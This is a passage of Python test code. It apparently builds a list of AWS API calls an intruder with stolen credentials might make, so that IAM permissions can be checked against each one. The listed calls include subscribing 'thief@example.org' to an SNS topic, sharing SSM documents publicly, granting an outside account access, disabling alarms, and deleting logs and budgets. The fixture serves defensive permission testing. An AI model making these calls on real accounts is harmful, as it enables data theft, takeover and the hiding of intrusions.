    yield _near("ssm:StartSession", worker, shell("node", "corral-shell"), (ADMIN,), node, **checked)
    yield _theirs("ssm:StartSession", instance, shell("head", "corral-shell"), **checked)
    yield _near(
        "ssm:StartSession", f"{document}corral-root-shell", shell("head", "corral-root-shell"), (ADMIN,), **checked
    )
    unchecked = {"ssm__SessionDocumentAccessCheck": "false"}
    yield _near("ssm:StartSession", instance, shell("head"), _NOBODY, head, **unchecked)
    documents: tuple[tuple[str, Run], ...] = (
        (
            "UpdateDocument",
            lambda n: n.aws("ssm").update_document(Name="corral-query", Content="{}", DocumentVersion="$LATEST"),
        ),
        ("DeleteDocument", lambda n: n.aws("ssm").delete_document(Name="corral-query")),
        (
            "ModifyDocumentPermission",
            lambda n: n.aws("ssm").modify_document_permission(
                Name="corral-query", PermissionType="Share", AccountIdsToAdd=["all"]
            ),
        ),
    )
    for name, run in documents:
        yield _near(f"ssm:{name}", f"{document}corral-query", run)


def _watching() -> Iterator[StolenCall]:
    stream = f"{_LOGS}:{{log_group}}:log-stream:events"
    event = [{"timestamp": 1, "message": "all is well"}]

    def write(name: str) -> Run:
        return lambda n: n.aws("logs").put_log_events(logGroupName=n.log_group, logStreamName=name, logEvents=event)

    yield _near("logs:PutLogEvents", stream, write("events"), ("near-head",))
    yield _theirs("logs:PutLogEvents", stream, write("events"))
    yield _own("logs:PutLogEvents", stream, write("events"), ("head",))
    yield _own("logs:PutLogEvents", f"{_LOGS}:{{log_group}}:log-stream:other", write("other"))
    group = f"{_LOGS}:{{log_group}}"
    groups: tuple[tuple[str, Run, tuple[str, ...]], ...] = (
        ("FilterLogEvents", lambda n: n.aws("logs").filter_log_events(logGroupName=n.log_group), _NOBODY),
        (
            "PutSubscriptionFilter",
            lambda n: n.aws("logs").put_subscription_filter(
                logGroupName=n.log_group, filterName="x", filterPattern="", destinationArn=f"{_SNS}:x"
            ),
            _NOBODY,
        ),
        (
            "PutRetentionPolicy",
            lambda n: n.aws("logs").put_retention_policy(logGroupName=n.log_group, retentionInDays=1),
            _DEPLOYER,
        ),
        ("DeleteLogGroup", lambda n: n.aws("logs").delete_log_group(logGroupName=n.log_group), _DEPLOYER),
    )
    for name, run, may in groups:
        yield _near(f"logs:{name}", group, run, may)
        yield _theirs(f"logs:{name}", group, run)
    topic = f"{_SNS}:{{topic}}"
    arn = lambda n: f"{_SNS}:{n.topic}"  # noqa: E731
    topics: tuple[tuple[str, Run, tuple[str, ...]], ...] = (
        ("Publish", lambda n: n.aws("sns").publish(TopicArn=arn(n), Message="1"), ("near-head",)),
        (
            "Subscribe",
            lambda n: n.aws("sns").subscribe(TopicArn=arn(n), Protocol="email", Endpoint="thief@example.org"),
            _DEPLOYER,
        ),
        (
            "SetTopicAttributes",
            lambda n: n.aws("sns").set_topic_attributes(
                TopicArn=arn(n), AttributeName="Policy", AttributeValue=_POLICY
            ),
            _DEPLOYER,
        ),
        (
            "AddPermission",
            lambda n: n.aws("sns").add_permission(
                TopicArn=arn(n), Label="x", AWSAccountId=["999999999999"], ActionName=["Publish"]
            ),
            _NOBODY,
        ),
        ("DeleteTopic", lambda n: n.aws("sns").delete_topic(TopicArn=arn(n)), _DEPLOYER),
    )
    for name, run, may in topics:
        yield _near(f"sns:{name}", topic, run, may)
        yield _theirs(f"sns:{name}", topic, run)
    yield _own("sns:Publish", topic, lambda n: n.aws("sns").publish(TopicArn=arn(n), Message="1"), ("head",))
    alarm = f"{_ALARM}:{{alarm}}"
    alarms: tuple[tuple[str, Run, tuple[str, ...]], ...] = (
        ("DisableAlarmActions", lambda n: n.aws("cloudwatch").disable_alarm_actions(AlarmNames=[n.alarm]), _NOBODY),
        (
            "SetAlarmState",
            lambda n: n.aws("cloudwatch").set_alarm_state(AlarmName=n.alarm, StateValue="OK", StateReason="x"),
            _NOBODY,
        ),
        ("DeleteAlarms", lambda n: n.aws("cloudwatch").delete_alarms(AlarmNames=[n.alarm]), _DEPLOYER),
    )
    for name, run, may in alarms:
        yield _near(f"cloudwatch:{name}", alarm, run, may)
        yield _theirs(f"cloudwatch:{name}", alarm, run)
    budget = f"arn:aws:budgets::{ACCOUNT}:budget/{{budget}}"
    drop: Run = lambda n: n.aws("budgets").delete_budget(AccountId=ACCOUNT, BudgetName=n.budget)  # noqa: E731
    yield _near("budgets:ModifyBudget", budget, drop, _DEPLOYER)
    yield _theirs("budgets:ModifyBudget", budget, drop)
    yield _near("tag:GetResources", "*", lambda n: n.aws("resourcegroupstaggingapi").get_resources(), _READERS)
    yield _near(
        "tag:TagResources",
        "*",
        lambda n: n.aws("resourcegroupstaggingapi").tag_resources(
            ResourceARNList=[f"arn:aws:s3:::{n.bucket}"], Tags={"corral:base": "mine"}
        ),
    )


def stolen_calls() -> tuple[StolenCall, ...]:
    """All calls. Those that end something come last, because they are also made by who may."""
    rooms = (_machines, _launches, _disks, _network, _identity, _objects, _keys, _secrets, _shells, _watching)
    calls = [call for room in rooms for call in room()]
    return tuple(sorted(calls, key=lambda call: _ends(call.action)))


def _ends(action: str) -> bool:
    return action.partition(":")[2].startswith(
        ("Delete", "Terminate", "Release", "ScheduleKeyDeletion", "ModifyBudget")
    )
